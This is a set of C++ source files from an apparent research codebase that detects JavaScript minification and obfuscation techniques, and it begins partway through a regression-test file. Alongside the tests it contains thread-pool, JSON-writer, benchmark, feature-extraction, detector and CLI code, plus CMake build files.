TEST(Regression, MinifyKeepsHoistedFunctionsReachable) {
  const char* source = R"JS(
    function f() { return g(); }
    console.log(f());
    function g() { return "late"; }
  )JS";
  const std::string compact = transform::minify(source);
  EXPECT_EQ(interp_one(source), interp_one(compact));
}

TEST(Regression, AdvancedMinifyDoesNotFoldDivisionByZero) {
  transform::MinifyOptions options;
  options.advanced = true;
  options.rename_locals = false;
  const std::string out = transform::minify("var x = 1 / 0;", options);
  EXPECT_NE(out.find("1/0"), std::string::npos) << out;
}

TEST(Regression, AdvancedMinifyBooleanInCondition) {
  transform::MinifyOptions options;
  options.advanced = true;
  options.rename_locals = false;
  const std::string out =
      transform::minify("while (x === true) { step(); }", options);
  EXPECT_TRUE(parses(out));
  EXPECT_NE(out.find("!0"), std::string::npos);
}

TEST(Regression, MinifyShorthandObjectAfterRename) {
  const char* source = R"JS(
    var port = 8080;
    var config = { port };
    console.log(config.port);
  )JS";
  EXPECT_EQ(interp_one(source), interp_one(transform::minify(source)));
}

TEST(Regression, FlattenWithTryCatchInside) {
  const char* source = R"JS(
    var out = [];
    out.push("a");
    try { out.push("b"); throw "x"; } catch (e) { out.push("c" + e); }
    out.push("d");
    console.log(out.join(""));
  )JS";
  Rng rng(9);
  const std::string flattened = transform::flatten_control_flow(source, rng);
  EXPECT_EQ(interp_one(source), interp_one(flattened)) << flattened;
}

TEST(Regression, GlobalArrayHandlesDuplicateStrings) {
  const char* source = R"JS(
    console.log(["x", "x", "y", "x"].join("-"));
  )JS";
  Rng rng(10);
  const std::string transformed =
      transform::global_array_transform(source, rng);
  EXPECT_EQ(interp_one(source), interp_one(transformed)) << transformed;
}

TEST(Regression, StringObfuscationEmptyAndUnicode) {
  Rng rng(11);
  const std::string source =
      R"JS(console.log("" + "é" + "end");)JS";
  const std::string out = transform::obfuscate_strings(source, rng);
  EXPECT_TRUE(parses(out));
}

TEST(Regression, RenameDoesNotCaptureAcrossScopes) {
  // Two separate `value` bindings renamed consistently but never merged
  // with the global `shared`.
  const char* source = R"JS(
    var shared = "S";
    function a() { var value = 1; return value + shared; }
    function b() { var value = 2; return value + shared; }
    console.log(a() + "|" + b());
  )JS";
  Rng rng(12);
  const std::string out = transform::obfuscate_identifiers(source, rng);
  EXPECT_EQ(interp_one(source), interp_one(out)) << out;
}

TEST(Regression, DeadCodeInsideSwitchBody) {
  const char* source = R"JS(
    var mode = "b";
    switch (mode) {
      case "a": console.log(1); break;
      case "b": console.log(2); break;
      default: console.log(3);
    }
  )JS";
  Rng rng(13);
  transform::DeadCodeOptions options;
  options.injection_rate = 0.9;
  const std::string out = transform::inject_dead_code(source, rng, options);
  EXPECT_EQ(interp_one(source), interp_one(out)) << out;
}

TEST(Regression, PackerOnSourceWithSingleQuotes) {
  Rng rng(14);
  const std::string out =
      transform::pack(R"(var s = 'single \' quoted'; use(s);)", rng);
  EXPECT_TRUE(parses(out)) << out;
}

TEST(Regression, JsFuckDigitsAndPunctuation) {
  const std::string out = transform::no_alnum_transform("f(0, 9, '.');");
  EXPECT_TRUE(parses(out));
  for (char c : out) {
    ASSERT_TRUE(c == '[' || c == ']' || c == '(' || c == ')' || c == '!' ||
                c == '+');
  }
}

TEST(Regression, CfgOnEmptyFunctionBodies) {
  ParseResult parsed = parse_program("function a() {} function b() {} a();");
  const ControlFlow flow = build_control_flow(parsed.ast);
  // Sequencing edges exist, nothing crashes on empty bodies.
  EXPECT_GE(flow.edge_count(), 2u);
}

TEST(Regression, DataflowCatchShadowing) {
  ParseResult parsed = parse_program(
      "var e = 'outer'; try { f(); } catch (e) { log(e); } use(e);");
  const DataFlow flow = build_data_flow(parsed.ast);
  std::size_t outer_uses = 0;
  std::size_t catch_uses = 0;
  for (const Binding& binding : flow.bindings) {
    if (binding.name != "e") continue;
    if (binding.is_parameter || binding.declaration->line == 1) {
      // distinguish by uses
    }
    if (binding.uses.size() == 1) ++catch_uses;
    if (binding.uses.size() == 1) ++outer_uses;
  }
  // Two distinct bindings named e, one use each.
  std::size_t bindings_named_e = 0;
  for (const Binding& binding : flow.bindings) {
    if (binding.name == "e") ++bindings_named_e;
  }
  EXPECT_EQ(bindings_named_e, 2u);
}

}  // namespace
}  // namespace jst
