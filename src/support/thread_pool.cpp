#include "support/thread_pool.h"

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <exception>
#include <memory>
#include <utility>

#include "obs/metrics.h"
#include "obs/request_context.h"
#include "obs/trace.h"

namespace jst::support {
namespace {

// Pool telemetry (DESIGN.md §9): queue depth is the number of submitted
// tasks not yet picked up, task latency is execution time only (tasks
// here are coarse parallel_for drain() calls, so two clock reads per
// task are noise). Instrument references are resolved once.
struct PoolMetrics {
  obs::Gauge& queue_depth =
      obs::MetricsRegistry::global().gauge("jst_pool_queue_depth");
  obs::Counter& tasks =
      obs::MetricsRegistry::global().counter("jst_pool_tasks_total");
  obs::Histogram& task_ms =
      obs::MetricsRegistry::global().histogram("jst_pool_task_ms");
};

PoolMetrics& pool_metrics() {
  static PoolMetrics* metrics = new PoolMetrics();  // outlives static dtors
  return *metrics;
}

void run_task_timed(const std::function<void()>& task) {
  PoolMetrics& metrics = pool_metrics();
  JST_SPAN("pool.task");
  const auto start = std::chrono::steady_clock::now();
  task();
  metrics.task_ms.record(std::chrono::duration<double, std::milli>(
                             std::chrono::steady_clock::now() - start)
                             .count());
  metrics.tasks.add(1);
}

// Shared state of one parallel_for invocation. Owned via shared_ptr so a
// helper task scheduled after the caller already drained every index can
// still run (and immediately exit) safely.
struct ForState {
  ForState(std::size_t count, std::function<void(std::size_t)> body)
      : count(count), body(std::move(body)) {}

  const std::size_t count;
  const std::function<void(std::size_t)> body;
  std::atomic<std::size_t> next{0};
  std::mutex mutex;
  std::condition_variable done;
  std::size_t active = 0;              // lanes currently inside drain()
  std::exception_ptr error;            // first failure wins

  // Claims indices until none remain. Every claimed index is executed by
  // the claiming thread, so waiting for active == 0 && next >= count is a
  // complete-work barrier.
  void drain() {
    {
      std::lock_guard<std::mutex> lock(mutex);
      ++active;
    }
    for (;;) {
      const std::size_t index = next.fetch_add(1, std::memory_order_relaxed);
      if (index >= count) break;
      try {
        body(index);
      } catch (...) {
        std::lock_guard<std::mutex> lock(mutex);
        if (!error) error = std::current_exception();
        next.store(count, std::memory_order_relaxed);  // abandon the rest
      }
    }
    std::lock_guard<std::mutex> lock(mutex);
    if (--active == 0) done.notify_all();
  }
};

}  // namespace

ThreadPool::ThreadPool(std::size_t parallelism) {
  parallelism = resolve_threads(parallelism);
  workers_.reserve(parallelism - 1);
  for (std::size_t i = 0; i + 1 < parallelism; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    stopping_ = true;
  }
  wake_.notify_all();
  for (std::thread& worker : workers_) worker.join();
}

void ThreadPool::worker_loop() {
  for (;;) {
    std::function<void()> task;
    {
      std::unique_lock<std::mutex> lock(mutex_);
      wake_.wait(lock, [this] { return stopping_ || !queue_.empty(); });
      if (queue_.empty()) return;  // stopping and drained
      task = std::move(queue_.front());
      queue_.pop_front();
    }
    pool_metrics().queue_depth.sub(1.0);
    run_task_timed(task);
  }
}

void ThreadPool::submit(std::function<void()> task) {
  if (workers_.empty()) {
    run_task_timed(task);
    return;
  }
  // Propagate the submitting thread's request context across the lane
  // hop: the task runs under the same request id on the worker, so its
  // pool.task span (and everything inside) joins the request's trace.
  // No request in scope (the batch path) costs nothing extra.
  const std::string_view rid = obs::current_request_id();
  if (!rid.empty()) {
    task = [rid = std::string(rid), inner = std::move(task)] {
      obs::RequestScope scope(rid);
      inner();
    };
  }
  {
    std::lock_guard<std::mutex> lock(mutex_);
    queue_.push_back(std::move(task));
  }
  pool_metrics().queue_depth.add(1.0);
  wake_.notify_one();
}

void ThreadPool::parallel_for(std::size_t count,
                              const std::function<void(std::size_t)>& body) {
  if (count == 0) return;
  if (workers_.empty() || count == 1) {
    for (std::size_t i = 0; i < count; ++i) body(i);
    return;
  }
  auto state = std::make_shared<ForState>(count, body);
  const std::size_t helpers = std::min(workers_.size(), count - 1);
  for (std::size_t i = 0; i < helpers; ++i) {
    submit([state] { state->drain(); });
  }
  state->drain();
  std::unique_lock<std::mutex> lock(state->mutex);
  state->done.wait(lock, [&] {
    return state->active == 0 &&
           state->next.load(std::memory_order_relaxed) >= state->count;
  });
  if (state->error) std::rethrow_exception(state->error);
}

std::size_t ThreadPool::default_parallelism() {
  if (const char* env = std::getenv("JST_THREADS")) {
    const long value = std::strtol(env, nullptr, 10);
    if (value > 0) return static_cast<std::size_t>(value);
  }
  const unsigned hardware = std::thread::hardware_concurrency();
  return hardware == 0 ? 1 : hardware;
}

ThreadPool& ThreadPool::global() {
  static ThreadPool pool(default_parallelism());
  return pool;
}

void run_parallel(std::size_t threads, std::size_t count,
                  const std::function<void(std::size_t)>& body) {
  threads = resolve_threads(threads);
  if (threads <= 1 || count <= 1) {
    for (std::size_t i = 0; i < count; ++i) body(i);
    return;
  }
  ThreadPool& shared = ThreadPool::global();
  if (threads == shared.parallelism()) {
    shared.parallel_for(count, body);
    return;
  }
  ThreadPool scoped(threads);
  scoped.parallel_for(count, body);
}

}  // namespace jst::support
