#include "support/json_writer.h"

#include <cmath>
#include <cstdio>

namespace jst {

void JsonWriter::maybe_comma() {
  if (after_key_) {
    after_key_ = false;
    return;
  }
  if (!needs_comma_.empty()) {
    if (needs_comma_.back()) out_ += ',';
    needs_comma_.back() = true;
  }
}

void JsonWriter::begin_object() {
  maybe_comma();
  out_ += '{';
  needs_comma_.push_back(false);
}

void JsonWriter::end_object() {
  out_ += '}';
  if (!needs_comma_.empty()) needs_comma_.pop_back();
}

void JsonWriter::begin_array() {
  maybe_comma();
  out_ += '[';
  needs_comma_.push_back(false);
}

void JsonWriter::end_array() {
  out_ += ']';
  if (!needs_comma_.empty()) needs_comma_.pop_back();
}

void JsonWriter::key(std::string_view name) {
  maybe_comma();
  out_ += '"';
  for (char c : name) {
    if (c == '"' || c == '\\') out_ += '\\';
    out_ += c;
  }
  out_ += "\":";
  after_key_ = true;
}

void JsonWriter::value(std::string_view text) {
  maybe_comma();
  out_ += '"';
  for (char c : text) {
    switch (c) {
      case '"': out_ += "\\\""; break;
      case '\\': out_ += "\\\\"; break;
      case '\n': out_ += "\\n"; break;
      case '\r': out_ += "\\r"; break;
      case '\t': out_ += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x",
                        static_cast<unsigned char>(c));
          out_ += buf;
        } else {
          out_ += c;
        }
    }
  }
  out_ += '"';
}

void JsonWriter::value(double number) {
  maybe_comma();
  if (!std::isfinite(number)) {
    out_ += "null";
    return;
  }
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.10g", number);
  out_ += buf;
}

void JsonWriter::value(long long number) {
  maybe_comma();
  out_ += std::to_string(number);
}

void JsonWriter::value(bool flag) {
  maybe_comma();
  out_ += flag ? "true" : "false";
}

void JsonWriter::null() {
  maybe_comma();
  out_ += "null";
}

void JsonWriter::raw(std::string_view json) {
  maybe_comma();
  out_ += json;
}

}  // namespace jst
