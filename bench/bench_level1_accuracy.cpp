// §III-E1 — level-1 detector accuracy on held-out regular, minified, and
// obfuscated samples (paper: 98.65% / 99.71% / 99.81%, overall 99.41%,
// transformed-vs-regular 99.69%), plus the Raychev-corpus regular check
// (98.65%).
#include <cstdio>

#include "analysis/dataset.h"
#include "bench_common.h"
#include "transform/transform.h"

int main() {
  using namespace jst;
  using namespace jst::bench;
  using transform::Technique;

  const auto& model = analyzer();
  const std::size_t per_class = scaled(120);

  // Held-out regular set (disjoint seed from training).
  const auto regular = held_out_regular(per_class, 0xa11ce);
  std::size_t regular_correct = 0;
  for (const auto& source : regular) {
    if (model.analyze(source).level1.regular()) ++regular_correct;
  }

  // Minified pool: the two techniques represented equally.
  Rng rng(0x1e7e11);
  std::size_t minified_correct = 0;
  std::size_t minified_total = 0;
  std::size_t obfuscated_correct = 0;
  std::size_t obfuscated_total = 0;
  const auto bases = held_out_regular(per_class, 0xb0b);

  const Technique kMinified[] = {Technique::kMinificationSimple,
                                 Technique::kMinificationAdvanced};
  const Technique kObfuscated[] = {
      Technique::kIdentifierObfuscation, Technique::kStringObfuscation,
      Technique::kGlobalArray,           Technique::kNoAlphanumeric,
      Technique::kDeadCodeInjection,     Technique::kControlFlowFlattening,
      Technique::kSelfDefending,         Technique::kDebugProtection};

  for (std::size_t i = 0; i < per_class; ++i) {
    const std::string& base = bases[i % bases.size()];
    {
      const Technique technique = kMinified[i % 2];
      const auto sample = analysis::make_transformed_sample(base, technique, rng);
      const auto report = model.analyze(sample.source);
      ++minified_total;
      if (report.level1.minified()) ++minified_correct;
    }
    {
      const Technique technique = kObfuscated[i % 8];
      const auto sample = analysis::make_transformed_sample(base, technique, rng);
      const auto report = model.analyze(sample.source);
      ++obfuscated_total;
      if (report.level1.obfuscated() || report.level1.minified()) {
        // Count via transformed below; obfuscated-class accuracy separately:
      }
      if (report.level1.obfuscated()) ++obfuscated_correct;
    }
  }

  // Transformed-vs-regular (the binary view used for the wild study).
  std::size_t transformed_correct = 0;
  std::size_t transformed_total = 0;
  for (std::size_t i = 0; i < per_class; ++i) {
    const std::string& base = bases[i % bases.size()];
    const Technique technique =
        (i % 2 == 0) ? kMinified[i % 2] : kObfuscated[i % 8];
    const auto sample = analysis::make_transformed_sample(base, technique, rng);
    ++transformed_total;
    if (model.analyze(sample.source).level1.transformed()) {
      ++transformed_correct;
    }
  }

  const double regular_accuracy =
      100.0 * static_cast<double>(regular_correct) / static_cast<double>(regular.size());
  const double minified_accuracy =
      100.0 * static_cast<double>(minified_correct) / static_cast<double>(minified_total);
  const double obfuscated_accuracy =
      100.0 * static_cast<double>(obfuscated_correct) /
      static_cast<double>(obfuscated_total);
  const double overall =
      100.0 *
      static_cast<double>(regular_correct + minified_correct + obfuscated_correct) /
      static_cast<double>(regular.size() + minified_total + obfuscated_total);
  const double transformed_accuracy =
      100.0 * static_cast<double>(transformed_correct + regular_correct) /
      static_cast<double>(transformed_total + regular.size());

  print_header("Level-1 detector accuracy (test set 1)", "section III-E1");
  print_row("regular detected as regular", 98.65, regular_accuracy);
  print_row("minified detected as minified", 99.71, minified_accuracy);
  print_row("obfuscated detected as obfuscated", 99.81, obfuscated_accuracy);
  print_row("overall level-1 accuracy", 99.41, overall);
  print_row("transformed-vs-regular accuracy", 99.69, transformed_accuracy);

  // "Raychev" check: a large regular-only corpus from a different
  // generator seed stream.
  const auto raychev = held_out_regular(scaled(150), 0x4a1c);
  std::size_t raychev_correct = 0;
  for (const auto& source : raychev) {
    if (model.analyze(source).level1.regular()) ++raychev_correct;
  }
  print_row("regular corpus check (Raychev et al.)", 98.65,
            100.0 * static_cast<double>(raychev_correct) /
                static_cast<double>(raychev.size()));
  print_note("paper scale: 8,000 samples per class; see EXPERIMENTS.md");
  print_footer();
  return 0;
}
