// Hand-picked features (§III-B).
//
// Implements the features the paper names explicitly — AST depth/breadth
// per line, MemberExpression-to-unique-Identifier ratio, proportions of
// CallExpression/Literal/Identifier nodes, built-in function presence,
// string-operation counts, average identifier length, characters per line,
// ternary-operator proportion, dot-vs-bracket notation ratio, array/
// dictionary sizes, and the data-flow-based "fetched from a structure"
// proportion — plus the companion signals the same in-depth study of the
// ten techniques yields (hex identifier prefixes, encoded-string ratios,
// switch-in-loop dispatchers, debugger density, self-defending markers,
// JSFuck-style operator densities, comment volume, whitespace ratios, CFG
// shape).
#pragma once

#include <string>
#include <vector>

#include "features/analysis_pipeline.h"
#include "features/scratch.h"

namespace jst::features {

// Stable list of hand-picked feature names; the returned vector of
// handpicked_features() uses the same order.
const std::vector<std::string>& handpicked_feature_names();

std::vector<float> handpicked_features(const ScriptAnalysis& analysis);

// Per-node counter update — the traversal body of handpicked_features,
// exposed so the fused single-pass extractor (feature_extractor.cpp) can
// drive it from its own walk. Must be called once per node in pre-order.
void gather_handpicked(const Node& node, ExtractCounters& counters);

// Assembles the hand-picked feature block from gathered counters plus the
// tree depth/breadth, appending handpicked_feature_names().size() values
// to `out`. Shared by the legacy and fused extraction paths, so the two
// differ only in how the counters were gathered.
void assemble_handpicked(const ScriptAnalysis& analysis,
                         const ExtractCounters& counters, std::size_t depth,
                         std::size_t breadth, std::vector<float>& out);

}  // namespace jst::features
