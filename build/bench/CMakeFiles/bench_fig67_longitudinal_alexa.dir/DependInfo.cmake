
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/bench_fig67_longitudinal_alexa.cpp" "bench/CMakeFiles/bench_fig67_longitudinal_alexa.dir/bench_fig67_longitudinal_alexa.cpp.o" "gcc" "bench/CMakeFiles/bench_fig67_longitudinal_alexa.dir/bench_fig67_longitudinal_alexa.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/bench/CMakeFiles/jst_bench_common.dir/DependInfo.cmake"
  "/root/repo/build/src/analysis/CMakeFiles/jst_analysis.dir/DependInfo.cmake"
  "/root/repo/build/src/transform/CMakeFiles/jst_transform.dir/DependInfo.cmake"
  "/root/repo/build/src/corpus/CMakeFiles/jst_corpus.dir/DependInfo.cmake"
  "/root/repo/build/src/features/CMakeFiles/jst_features.dir/DependInfo.cmake"
  "/root/repo/build/src/ml/CMakeFiles/jst_ml.dir/DependInfo.cmake"
  "/root/repo/build/src/dataflow/CMakeFiles/jst_dataflow.dir/DependInfo.cmake"
  "/root/repo/build/src/cfg/CMakeFiles/jst_cfg.dir/DependInfo.cmake"
  "/root/repo/build/src/codegen/CMakeFiles/jst_codegen.dir/DependInfo.cmake"
  "/root/repo/build/src/parser/CMakeFiles/jst_parser.dir/DependInfo.cmake"
  "/root/repo/build/src/lexer/CMakeFiles/jst_lexer.dir/DependInfo.cmake"
  "/root/repo/build/src/ast/CMakeFiles/jst_ast.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/jst_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
