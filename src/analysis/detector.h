// The two multi-task detectors (§III-C).
#pragma once

#include <iosfwd>
#include <memory>
#include <vector>

#include "analysis/labels.h"
#include "features/feature_extractor.h"
#include "ml/metrics.h"
#include "ml/multilabel.h"

namespace jst::analysis {

struct DetectorConfig {
  features::FeatureConfig features;
  ml::ForestParams forest;
  // Classifier-chain (paper's pick) vs. independence assumption.
  bool classifier_chain = true;
  // Level-2 decision rule: up to `topk` labels whose confidence clears
  // `threshold` (empirically 10% in the paper, §III-E2).
  double level2_threshold = 0.10;
  std::size_t level2_topk = 7;
};

// Level 1: multi-task over {regular, minified, obfuscated}.
class Level1Detector {
 public:
  explicit Level1Detector(DetectorConfig config = {});

  void fit(const ml::Matrix& data, const ml::LabelMatrix& labels, Rng& rng);

  struct Prediction {
    double p_regular = 0.0;
    double p_minified = 0.0;
    double p_obfuscated = 0.0;
    bool minified() const { return p_minified >= 0.5; }
    bool obfuscated() const { return p_obfuscated >= 0.5; }
    // "We consider that a file is transformed if level 1 flagged it as
    // obfuscated and/or minified."
    bool transformed() const { return minified() || obfuscated(); }
    bool regular() const { return !transformed(); }
  };

  Prediction predict(std::span<const float> row) const;
  const DetectorConfig& config() const { return config_; }

  // Persist/restore the trained classifier behind a versioned model header
  // (magic + format version + feature dimension + forest parameters). The
  // loader must be constructed with the same DetectorConfig; a mismatch
  // throws ModelError naming the offending field.
  void save(std::ostream& out) const;
  void load(std::istream& in);

 private:
  DetectorConfig config_;
  std::unique_ptr<ml::MultiLabelClassifier> classifier_;
};

// Level 2: multi-task over the ten techniques.
class Level2Detector {
 public:
  explicit Level2Detector(DetectorConfig config = {});

  void fit(const ml::Matrix& data, const ml::LabelMatrix& labels, Rng& rng);

  // Per-technique confidence, index = Technique value.
  std::vector<double> predict_proba(std::span<const float> row) const;

  // Paper's final rule: the top-k most confident techniques above the
  // threshold.
  std::vector<transform::Technique> predict_techniques(
      std::span<const float> row) const;
  std::vector<transform::Technique> predict_topk(std::span<const float> row,
                                                 std::size_t k) const;

  const DetectorConfig& config() const { return config_; }

  void save(std::ostream& out) const;
  void load(std::istream& in);

 private:
  DetectorConfig config_;
  std::unique_ptr<ml::MultiLabelClassifier> classifier_;
};

}  // namespace jst::analysis
