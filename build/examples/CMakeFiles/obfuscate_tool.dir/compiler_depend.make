# Empty compiler generated dependencies file for obfuscate_tool.
# This may be replaced when dependencies are built.
