// CLI: classify JavaScript files from disk (or stdin).
//
//   $ ./detect_techniques file1.js [file2.js ...]
//   $ cat script.js | ./detect_techniques -
//
// Prints one JSON report per input, mirroring the paper's per-script
// output: eligibility, level-1 probabilities, technique confidences.
#include <cstdio>
#include <fstream>
#include <iostream>
#include <sstream>

#include "analysis/pipeline.h"
#include "support/json_writer.h"

namespace {

std::string read_all(std::istream& in) {
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

void report_json(const char* name, const jst::analysis::ScriptReport& report) {
  using namespace jst;
  JsonWriter json;
  json.begin_object();
  json.key("file");
  json.value(name);
  json.key("parsed");
  json.value(report.parsed);
  if (report.parsed) {
    json.key("eligible");
    json.value(report.eligible);
    json.key("level1");
    json.begin_object();
    json.key("p_regular");
    json.value(report.level1.p_regular);
    json.key("p_minified");
    json.value(report.level1.p_minified);
    json.key("p_obfuscated");
    json.value(report.level1.p_obfuscated);
    json.key("transformed");
    json.value(report.level1.transformed());
    json.end_object();
    json.key("techniques");
    json.begin_array();
    for (transform::Technique technique : report.techniques) {
      json.begin_object();
      json.key("name");
      json.value(transform::technique_name(technique));
      json.key("confidence");
      json.value(report.technique_confidence[static_cast<std::size_t>(technique)]);
      json.end_object();
    }
    json.end_array();
  }
  json.end_object();
  std::printf("%s\n", json.str().c_str());
}

}  // namespace

int main(int argc, char** argv) {
  using namespace jst;

  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: %s <file.js>... ('-' reads from stdin)\n", argv[0]);
    return 2;
  }

  analysis::PipelineOptions options;
  options.training_regular_count = 80;
  options.per_technique_count = 16;
  analysis::TransformationAnalyzer analyzer(options);
  std::fprintf(stderr, "[detect] training detectors...\n");
  analyzer.train();

  int failures = 0;
  for (int i = 1; i < argc; ++i) {
    std::string source;
    if (std::string(argv[i]) == "-") {
      source = read_all(std::cin);
    } else {
      std::ifstream file(argv[i]);
      if (!file) {
        std::fprintf(stderr, "[detect] cannot open %s\n", argv[i]);
        ++failures;
        continue;
      }
      source = read_all(file);
    }
    report_json(argv[i], analyzer.analyze(source));
  }
  return failures == 0 ? 0 : 1;
}
