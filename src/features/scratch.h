// Reusable per-thread extraction state for the fused feature fast path.
//
// The legacy extractor allocates its counter containers, traversal
// stacks, n-gram histogram, and output vector fresh for every script. At
// batch scale those allocations dominate small-script extraction, so the
// fast path (feature_extractor.h: extract_into) threads one
// ExtractScratch through every script a worker analyzes: containers are
// cleared between scripts but keep their capacity, making steady-state
// extraction allocation-free. AnalyzerService owns one scratch per batch
// worker thread and reports reuse/footprint via the obs metrics
// jst_scratch_reuse_total and jst_scratch_peak_bytes.
#pragma once

#include <algorithm>
#include <array>
#include <cstddef>
#include <cstdint>
#include <cstring>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "ast/ast.h"
#include "cfg/cfg.h"
#include "dataflow/dataflow.h"
#include "features/ngram.h"

namespace jst::features {

// Open-addressed set of identifier names (views into the AST), replacing
// std::unordered_set on the extraction fast path: libstdc++'s node-based
// table mallocs once per unique identifier even after clear(), which made
// identifier dedup the last allocating step of gather at batch scale.
// Linear probing over a power-of-two slot array, FNV-1a hashing (same
// parameters as the n-gram hasher), byte-exact comparison on hash hits —
// size() matches the unordered_set it replaced exactly. clear() is O(1):
// slots carry an epoch and stale epochs read as empty.
class IdentifierSet {
 public:
  std::size_t size() const { return size_; }

  void clear() {
    ++epoch_;
    if (epoch_ == 0) {
      // Epoch wrapped: lazily-invalidated slots would read as live again.
      std::fill(slots_.begin(), slots_.end(), Slot{});
      epoch_ = 1;
    }
    size_ = 0;
  }

  void insert(std::string_view name) {
    if (size_ * 10 >= slots_.size() * 7) grow();
    std::uint64_t hash = kFnvOffsetBasis;
    for (const char ch : name) {
      hash ^= static_cast<unsigned char>(ch);
      hash *= kFnvPrime;
    }
    const std::size_t mask = slots_.size() - 1;
    std::size_t index = static_cast<std::size_t>(hash) & mask;
    while (true) {
      Slot& slot = slots_[index];
      if (slot.epoch != epoch_) {  // empty: never used, or stale epoch
        slot.data = name.data();
        slot.hash = hash;
        slot.size = static_cast<std::uint32_t>(name.size());
        slot.epoch = epoch_;
        ++size_;
        return;
      }
      if (slot.hash == hash && slot.size == name.size() &&
          std::memcmp(slot.data, name.data(), name.size()) == 0) {
        return;  // already present
      }
      index = (index + 1) & mask;
    }
  }

  std::size_t capacity_bytes() const {
    return slots_.capacity() * sizeof(Slot);
  }

 private:
  struct Slot {
    const char* data = nullptr;
    std::uint64_t hash = 0;
    std::uint32_t size = 0;
    std::uint32_t epoch = 0;  // live iff equal to the set's current epoch
  };
  static constexpr std::size_t kInitialSlots = 256;  // power of two

  // Doubles the table (first call: allocates it — the default-constructed
  // set owns no memory, so value-resetting an ExtractCounters stays free).
  void grow() {
    std::vector<Slot> old = std::move(slots_);
    slots_.assign(old.empty() ? kInitialSlots : old.size() * 2, Slot{});
    const std::size_t mask = slots_.size() - 1;
    for (const Slot& slot : old) {
      if (slot.epoch != epoch_) continue;
      std::size_t index = static_cast<std::size_t>(slot.hash) & mask;
      while (slots_[index].epoch == epoch_) index = (index + 1) & mask;
      slots_[index] = slot;
    }
  }

  std::vector<Slot> slots_;
  std::size_t size_ = 0;
  std::uint32_t epoch_ = 1;  // default-constructed slots (epoch 0) are empty
};

// Per-script counters the hand-picked feature block is assembled from.
// One instance per scratch; reset() clears values but keeps container
// capacity (and hash-table bucket arrays) for the next script.
struct ExtractCounters {
  // node-kind counts
  std::size_t nodes = 0;
  std::size_t identifiers = 0;
  std::size_t literals = 0;
  std::size_t string_literals = 0;
  std::size_t number_literals = 0;
  std::size_t hex_number_literals = 0;
  std::size_t calls = 0;
  std::size_t members = 0;
  std::size_t member_dot = 0;
  std::size_t member_bracket = 0;
  std::size_t member_bracket_string_key = 0;
  std::size_t conditionals = 0;   // ConditionalExpression
  std::size_t if_statements = 0;
  std::size_t sequences = 0;
  std::size_t empty_statements = 0;
  std::size_t unary_bang_plus = 0;
  std::size_t unary_total = 0;
  std::size_t binary_total = 0;
  std::size_t binary_plus = 0;
  std::size_t binary_plus_on_strings = 0;
  std::size_t binary_numeric_only = 0;
  std::size_t empty_arrays = 0;
  std::size_t functions = 0;
  std::size_t function_params = 0;
  std::size_t iife = 0;
  std::size_t try_statements = 0;
  std::size_t throw_statements = 0;
  std::size_t with_statements = 0;
  std::size_t regex_literals = 0;
  std::size_t template_literals = 0;
  std::size_t debugger_statements = 0;
  std::size_t debugger_in_loop_or_function = 0;
  std::size_t labeled = 0;
  std::size_t assignments = 0;
  std::size_t update_expressions = 0;
  std::size_t var_declarations = 0;
  std::size_t declarators = 0;
  std::size_t switches = 0;
  std::size_t switch_cases = 0;
  std::size_t switch_in_loop = 0;
  std::size_t infinite_loops = 0;   // while(true) / for(;;)
  std::size_t string_operations = 0;
  std::size_t self_defense_markers = 0;  // toString/callee/constructor refs
  std::size_t new_expressions = 0;
  std::size_t spread_like = 0;
  std::size_t array_elements_total = 0;
  std::size_t arrays = 0;
  std::size_t object_properties_total = 0;
  std::size_t objects = 0;
  std::size_t large_arrays = 0;  // >= 16 elements

  std::vector<double> identifier_lengths;
  std::size_t identifiers_len1 = 0;
  std::size_t identifiers_len2 = 0;
  std::size_t identifiers_hexlike = 0;  // _0x.... (obfuscator.io style)
  // Views into the AST's identifier names — no per-occurrence string
  // copies. Valid only while the analyzed script's AST is alive, which
  // reset() guarantees by clearing the set before the next script.
  IdentifierSet unique_identifiers;

  std::vector<double> string_lengths;
  std::string all_string_bytes;
  std::size_t encoded_looking_strings = 0;

  // Presence flags, indexed in handpicked.cpp's decoder-builtin order
  // (eval, Function, atob, btoa, unescape, escape, decodeURIComponent,
  // encodeURIComponent, parseInt).
  std::array<bool, 9> builtin_seen{};
  std::size_t eval_calls = 0;

  // Zeroes every scalar and empties every container while preserving
  // container capacity. Implemented by moving the containers aside,
  // value-resetting the whole struct (immune to a newly added scalar
  // being missed), then moving the containers back and clear()ing them.
  void reset() {
    auto keep_identifier_lengths = std::move(identifier_lengths);
    auto keep_unique_identifiers = std::move(unique_identifiers);
    auto keep_string_lengths = std::move(string_lengths);
    auto keep_all_string_bytes = std::move(all_string_bytes);
    *this = ExtractCounters{};
    identifier_lengths = std::move(keep_identifier_lengths);
    identifier_lengths.clear();
    unique_identifiers = std::move(keep_unique_identifiers);
    unique_identifiers.clear();
    string_lengths = std::move(keep_string_lengths);
    string_lengths.clear();
    all_string_bytes = std::move(keep_all_string_bytes);
    all_string_bytes.clear();
  }

  std::size_t capacity_bytes() const {
    return identifier_lengths.capacity() * sizeof(double) +
           string_lengths.capacity() * sizeof(double) +
           all_string_bytes.capacity() +
           unique_identifiers.capacity_bytes();
  }
};

// Everything the fused single-pass extractor reuses across scripts.
struct ExtractScratch {
  ExtractCounters counters;
  // Traversal stack for for_each_preorder_depth.
  std::vector<std::pair<const Node*, std::size_t>> walk_stack;
  // Nodes per depth level (tree breadth).
  std::vector<std::size_t> level_counts;
